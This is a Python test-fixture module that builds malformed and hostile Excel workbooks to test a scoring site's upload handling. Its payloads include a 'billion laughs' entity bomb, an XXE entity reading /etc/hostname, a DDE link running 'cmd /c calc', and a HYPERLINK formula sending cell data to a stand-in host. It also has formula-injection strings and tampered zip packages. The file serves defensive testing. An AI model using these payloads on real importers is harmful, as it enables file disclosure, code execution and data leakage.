"""B17–B32: workbooks that somebody brings.

A list of persons is not imported yet: the same is asked of the doors that are there, the entries and marks of
`award rank` and a member's filled score sheet on the site.
"""

import io
import re
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date
from typing import Any, Literal

from openpyxl import Workbook, load_workbook

from tests.corpus.parts import packed, pdf

Rows = Sequence[Sequence[Any]]
SHEET1, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
ENTRIES: Rows = (
    ("entry", "category", "label", "zone", "households", "days_late"),
    ("e1", "office", "สำนักงานหนึ่ง", 9, 85, 0),
    ("e2", "office", "สำนักงานสอง", 9, 72.5, 2),
)
MARKS: Rows = (
    ("entry", "member", "criterion", "mark"),
    *(
        (entry, "m1", criterion, mark)
        for entry in ("e1", "e2")
        for criterion, mark in (("d1/plan", 5), ("d1/result", 9.5), ("papers/letter", 1), ("papers/photos", 0))
    ),
)
# A text that is said a thousand million times over where it is believed.
LAUGHS = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
OUTSIDE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'
FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
LINK = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
TEXTS = ("+66 2 141 6000", "@name", "-", "'=1+1", "กำ")


@dataclass(frozen=True, slots=True)
class Brought:
    """One file as somebody brings it: `rank` with these entries or marks, or the member's own `sheet` spoilt."""

    door: Literal["rank", "sheet"]
    make: Callable[[bytes], bytes]  # of the sheet as downloaded; a table for `rank` is made from nothing
    table: Literal["entries", "marks"] = "marks"
    name: str = "marks.xlsx"


def book(rows: Rows, *, change: Callable[[Any], object] | None = None) -> bytes:
    """A workbook of one sheet; `change` gets it before it is saved. Texts stay texts."""
    made = Workbook()
    sheet: Any = made.active
    for line, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(line, column, value)
            if isinstance(value, str):
                cell.data_type = "s"
    if change:
        change(sheet)
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def parts_of(package: bytes) -> dict[str, bytes]:
    """The parts of a package by name."""
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def spoilt(package: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The package with one part changed."""
    parts = parts_of(package)
    return packed(parts | {part: change(parts[part])})


def declared(head: bytes) -> Callable[[bytes], bytes]:
    """A part of XML with a declaration in front of its root."""
    return lambda xml: re.sub(rb"^(<\?xml[^>]*\?>)?\s*", lambda found: found[0] + head, xml, count=1)


def replaced(rows: Rows, line: int, column: int, value: Any) -> Rows:
    """The rows with another value in one cell, counted from 1."""
    return [
        [value if (at, place) == (line, column) else cell for place, cell in enumerate(row, start=1)]
        for at, row in enumerate(rows, start=1)
    ]


def typed(cell: str, value: Any) -> Callable[[bytes], bytes]:
    """The member's sheet with a value typed into a cell of its first page; texts stay texts."""

    def change(package: bytes) -> bytes:
        opened = load_workbook(io.BytesIO(package))
        place = opened.worksheets[0][cell]
        place.value = value
        if isinstance(value, str) and not value.startswith("=H"):
            place.data_type = "s"
        file = io.BytesIO()
        opened.save(file)
        return file.getvalue()

    return change


def _sheet(change: Callable[[Any], object]) -> Callable[[bytes], bytes]:
    def changed(package: bytes) -> bytes:
        opened = load_workbook(io.BytesIO(package))
        change(opened.worksheets[0])
        file = io.BytesIO()
        opened.save(file)
        return file.getvalue()

    return changed


def rank(rows: Rows, table: Literal["entries", "marks"] = "marks", **more: Any) -> Brought:
    """A table of these rows."""
    return Brought("rank", lambda _: book(rows, **more), table, f"{table}.xlsx")


def raw(make: Callable[[], bytes], table: Literal["entries", "marks"] = "marks") -> Brought:
    """A table of these bytes."""
    return Brought("rank", lambda _: make(), table, f"{table}.xlsx")


def on_sheet(make: Callable[[bytes], bytes]) -> Brought:
    """The member's sheet, spoilt."""
    return Brought("sheet", make, name="sheet.xlsx")


def _hide(line: int) -> Callable[[Any], None]:
    def change(sheet: Any) -> None:
        sheet.row_dimensions[line].hidden = True

    return change


def _again(sheet: Any) -> None:
    other = sheet.parent.create_sheet("เขต 10")
    for row in MARKS[:3]:
        other.append(list(row))


def _cached(xml: bytes) -> bytes:
    """The formula =1+1 whose last value is said to be 10."""
    return xml.replace(b"<v>9.5</v>", b"<f>1+1</f><v>10</v>", 1)


def _twice(package: bytes) -> bytes:
    """A second list of sheets under the name of the first, and another content."""
    parts = parts_of(package)
    file = io.BytesIO(packed(parts))
    with zipfile.ZipFile(file, "a") as made:
        made.writestr("xl/Workbook.xml", parts[BOOK].replace(b"Sheet", b"Other"))
    return file.getvalue()


def _two_names(package: bytes) -> bytes:
    """The list calls a part by another name than the part itself."""
    name = SHEET1.encode()
    at = package.rindex(name)
    return package[:at] + b"xl/worksheets/sheet9.xml" + package[at + len(name) :]


def _cut_size(package: bytes) -> bytes:
    """The list announces a part of no bytes."""
    whole = bytearray(package)
    at = whole.rindex(b"PK\x01\x02")
    whole[at + 24 : at + 28] = b"\x01\0\0\0"
    return bytes(whole)


def _link(package: bytes) -> bytes:
    return packed(parts_of(package) | {"xl/externalLinks/externalLink1.xml": LINK})


def _connection(package: bytes) -> bytes:
    return packed(parts_of(package) | {"xl/connections.xml": b"<connections/>"})


def _many(count: int) -> Rows:
    return [ENTRIES[0], *((f"e{number}", "office", "สำนักงาน", 9, 80, 0) for number in range(1, count + 1))]


def _small_dimension(xml: bytes) -> bytes:
    return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:A1"', xml)


def raw_text(text: bytes) -> Callable[[bytes], bytes]:
    """The XML of a sheet with a text of raw bytes as its first member."""
    cell = re.compile(rb'<c r="B2"[^>]*>.*?</c>', re.S)
    return lambda xml: cell.sub(b'<c r="B2" t="inlineStr"><is><t>%s</t></is></c>' % text, xml, count=1)


MARK = "E8"  # the first mark of the member's sheet
NOTE = "G8"  # the note beside it
SPREADSHEETS: dict[str, list[Brought]] = {
    "B17_no_workbook": [
        raw(pdf),
        raw(lambda: b"entry,member,criterion,mark\n"),
        raw(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        on_sheet(lambda _: pdf()),
        on_sheet(lambda _: b"a,b\n"),
        on_sheet(lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    ],
    "B18_entities": [
        raw(lambda: spoilt(book(MARKS), SHEET1, declared(LAUGHS))),
        raw(lambda: spoilt(book(MARKS), BOOK, declared(OUTSIDE))),
        on_sheet(lambda sheet: spoilt(sheet, SHEET1, declared(LAUGHS))),
        on_sheet(lambda sheet: spoilt(sheet, BOOK, declared(OUTSIDE))),
    ],
    "B19_far_away": [
        raw(lambda: spoilt(book(MARKS), SHEET1, lambda xml: xml.replace(b"</sheetData>", FAR))),
        on_sheet(lambda sheet: spoilt(sheet, SHEET1, lambda xml: xml.replace(b"</sheetData>", FAR))),
        on_sheet(_sheet(lambda sheet: sheet.cell(5_001, 1, "x"))),
    ],
    "B20_lying_dimension": [
        raw(lambda: spoilt(book(_many(1_000)), SHEET1, _small_dimension), "entries"),
    ],
    "B21_formula": [
        raw(lambda: spoilt(book(MARKS), SHEET1, _cached)),
        on_sheet(typed(MARK, '=HYPERLINK("http://a.example/?"&A1)')),
    ],
    "B22_links": [
        raw(lambda: _link(book(MARKS))),
        raw(lambda: _connection(book(MARKS))),
        on_sheet(_link),
        on_sheet(_connection),
    ],
    "B23_header": [
        rank([row[:3] for row in MARKS]),
        rank([(*row, row[3]) for row in MARKS]),
        rank(replaced(MARKS, 1, 4, "คะแนน")),
        rank([("คะแนนของเขต 9",), *MARKS]),
        on_sheet(_sheet(lambda sheet: sheet.insert_rows(3))),
        on_sheet(_sheet(lambda sheet: sheet.delete_cols(5))),
    ],
    "B24_hidden_and_merged": [
        rank(ENTRIES, "entries", change=lambda sheet: sheet.merge_cells("D2:D3")),
        rank(ENTRIES, "entries", change=_hide(3)),
        rank(MARKS, change=_again),
        on_sheet(_sheet(lambda sheet: sheet.parent.create_sheet("เขต 10").append([1, 2]))),
    ],
    "B25_twice": [rank([*ENTRIES, ENTRIES[1]], "entries"), rank([*MARKS, MARKS[1]])],
    "B26_numbers": [
        rank(replaced(ENTRIES, 2, 5, "85"), "entries"),
        rank(replaced(ENTRIES, 2, 5, "๘๕"), "entries"),
        rank(replaced(ENTRIES, 2, 5, "85,5"), "entries"),
        rank(replaced(ENTRIES, 2, 5, "85%"), "entries"),
        rank(replaced(ENTRIES, 2, 5, 45_500), "entries"),
        rank(replaced(ENTRIES, 2, 5, date(2021, 7, 19)), "entries"),
        on_sheet(typed(MARK, "3,5")),
        on_sheet(typed(MARK, "4%")),
        on_sheet(typed(MARK, "๔")),
    ],
    "B27_codes": [
        rank([MARKS[0], (123, *MARKS[1][1:])]),
        rank([MARKS[0], (1e5, *MARKS[1][1:])]),
        rank([MARKS[0], (1234567890123456, *MARKS[1][1:])]),
        rank([MARKS[0], ("E1", *MARKS[1][1:])]),
    ],
    "B28_errors_and_blanks": [
        raw(lambda: spoilt(book(MARKS), SHEET1, lambda xml: xml.replace(b"<v>9.5</v>", b"<v>#REF!</v>", 1).replace(
            b'r="D3" t="n"', b'r="D3" t="e"', 1))),
        rank(replaced(ENTRIES, 3, 2, None), "entries"),
        rank(replaced(MARKS, 3, 2, None)),
        on_sheet(_sheet(lambda sheet: setattr(sheet[MARK], "value", "#REF!"))),
    ],
    "B29_unknown": [
        rank(replaced(MARKS, 2, 1, "e12")),
        rank(replaced(MARKS, 2, 3, "d1/plam")),
        rank(replaced(ENTRIES, 2, 2, "ofice"), "entries"),
        rank(replaced(ENTRIES, 2, 4, None), "entries"),
    ],
    "B30_altered_packages": [
        raw(lambda: _twice(book(MARKS))),
        raw(lambda: _two_names(book(MARKS))),
        raw(lambda: _cut_size(book(MARKS))),
        on_sheet(_twice),
        on_sheet(_two_names),
        on_sheet(_cut_size),
    ],
    "B31_unseen_characters": [
        raw(lambda: spoilt(book(MARKS), SHEET1, raw_text(b"m_x0000_1"))),
        raw(lambda: spoilt(book(MARKS), SHEET1, raw_text(b"m_xD800_1"))),
        rank(replaced(ENTRIES, 2, 3, "สำนัก\u202eงาน"), "entries"),
        rank(replaced(MARKS, 2, 1, "e\u200b1")),
        raw(lambda: spoilt(book(MARKS), SHEET1, raw_text(b"m" * 40_000))),
        rank(replaced(ENTRIES, 2, 3, "สํานักงาน"), "entries"),
        on_sheet(typed(NOTE, "ก\u202eข\u200bค")),
        on_sheet(typed(NOTE, "ก" * 32_000)),
    ],
    "B32_texts_like_formulas": [
        *(rank(replaced(ENTRIES, 2, 3, text), "entries") for text in TEXTS),
        rank(replaced(ENTRIES, 2, 3, "=1+1"), "entries"),
        on_sheet(typed(NOTE, "=1+1")),
        on_sheet(typed(NOTE, "@name")),
    ],
}  # fmt: skip
